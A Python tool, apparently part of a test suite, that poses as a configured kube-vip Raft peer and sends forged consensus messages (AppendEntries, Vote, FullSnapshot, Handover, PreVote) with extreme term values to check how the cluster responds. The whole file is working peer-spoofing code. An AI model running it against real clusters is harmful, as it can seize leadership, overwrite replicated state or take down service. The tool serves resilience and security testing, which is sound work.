#!/usr/bin/env python3
"""A rogue host on the Raft port: speaks kube-vip's peer wire format (u32 big-endian length +
JSON frame) and forges messages claiming to be a configured peer.

usage: rogue_peer.py HOST PORT FROM_ID TO_ID TERM [KIND...]
  FROM_ID / TO_ID  peer id strings (server1, ...); node ids are FNV-1a 64 of them
  TERM             the term to forge (e.g. 1099511627776 = 2^40, 18446744073709551615 = 2^64-1)
  KIND             any of AppendEntries Vote FullSnapshot Handover PreVote (default: all)

For each kind: connect, send Hello claiming FROM_ID, then the forged frame; prints one line per
kind with what came back (the answer's variant, or how the connection ended). Exit 0 always:
the test judges the cluster, not this tool.
"""
import json
import socket
import struct
import sys

FNV_OFFSET = 0xCBF29CE484222325
FNV_PRIME = 0x100000001B3


def node_id(name):
    h = FNV_OFFSET
    for b in name.encode():
        h = ((h ^ b) * FNV_PRIME) & 0xFFFFFFFFFFFFFFFF
    return h


def frame(obj):
    data = json.dumps(obj).encode()
    return struct.pack(">I", len(data)) + data


def read_frame(sock):
    def exact(n):
        buf = b""
        while len(buf) < n:
            chunk = sock.recv(n - len(buf))
            if not chunk:
                return None
            buf += chunk
        return buf

    head = exact(4)
    if head is None:
        return None
    body = exact(struct.unpack(">I", head)[0])
    return None if body is None else json.loads(body)


def forged(kind, frm, term):
    vote = {"leader_id": {"term": term, "voted_for": frm}, "committed": True}
    log_id = {"leader_id": term, "index": 1}
    if kind == "AppendEntries":
        return {"AppendEntries": {"vote": vote, "prev_log_id": None,
                                  "entries": [{"log_id": log_id, "payload": "Blank"}],
                                  "leader_commit": log_id}}
    if kind == "Vote":
        return {"Vote": {"vote": dict(vote, committed=False), "last_log_id": log_id}}
    if kind == "FullSnapshot":
        return {"FullSnapshot": {"vote": vote, "meta": {
            "last_log_id": log_id,
            "last_membership": {"log_id": None, "membership": {"configs": [], "nodes": {}}},
            "snapshot_id": "rogue"}, "data": list(b"{}")}}
    if kind == "Handover":
        return {"Handover": {"from": frm}}
    if kind == "PreVote":
        return {"PreVote": {"last_log_index": term}}
    raise SystemExit(f"unknown kind {kind}")


def main():
    host, port, frm, to, term = sys.argv[1:6]
    kinds = sys.argv[6:] or ["AppendEntries", "Vote", "FullSnapshot", "Handover", "PreVote"]
    frm_id, to_id, term = node_id(frm), node_id(to), int(term)
    for kind in kinds:
        try:
            s = socket.create_connection((host, int(port)), timeout=2)
        except OSError as e:
            print(f"{kind}: connect failed: {e}")
            continue
        try:
            hello = {"Hello": {"magic": "kube-vip-raft", "version": 1, "from": frm_id, "to": to_id}}
            s.sendall(frame({"id": 0, "body": hello}))
            s.sendall(frame({"id": 1, "body": forged(kind, frm_id, term)}))
            answers = []
            while True:
                f = read_frame(s)
                if f is None:
                    break
                body = f["body"]
                answers.append(next(iter(body)) if isinstance(body, dict) else body)
                if f["id"] == 1:
                    break
            print(f"{kind}: {' '.join(map(str, answers)) or 'closed'}")
        except (OSError, ValueError) as e:
            print(f"{kind}: {e}")
        finally:
            s.close()


if __name__ == "__main__":
    main()
